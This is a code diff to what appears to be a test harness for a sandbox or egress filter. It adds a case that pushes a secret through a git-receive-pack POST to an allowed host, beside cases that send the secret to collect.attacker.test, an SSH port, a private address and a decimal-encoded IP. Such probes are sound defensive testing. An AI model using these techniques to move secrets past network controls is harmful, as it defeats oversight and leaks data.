@@ -88,6 +88,21 @@ const ways = {
       `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${secret}`,
     ),
   'another-authority': () => http2('collect.attacker.test'),
+  'push-where-only-fetching': () =>
+    new Promise((resolve) => {
+      const socket = connectTls({ host: 'allowed.test', port: 443, servername: 'allowed.test', rejectUnauthorized: false });
+      socket.on('error', said);
+      socket.on('data', (chunk) => console.log(chunk.toString('latin1').split('\r\n')[0]));
+      socket.on('secureConnect', () =>
+        socket.write(
+          `POST /owner/repository.git/git-receive-pack HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: ${secret.length}\r\n\r\n${secret}`,
+        ),
+      );
+      setTimeout(() => {
+        socket.destroy();
+        resolve();
+      }, 1000);
+    }),
   'another-protocol-on-the-ssh-port': async () => tcp((await lookup('registry.test')).address, 22, `\u0000${secret}`),
   'private-address': async () => tcp('inside.test', 8080, `POST / HTTP/1.1\r\nHost: inside.test:8080\r\n\r\n${secret}`),
   'address-in-decimal': () => tcp('3325256711', 8080, secret),
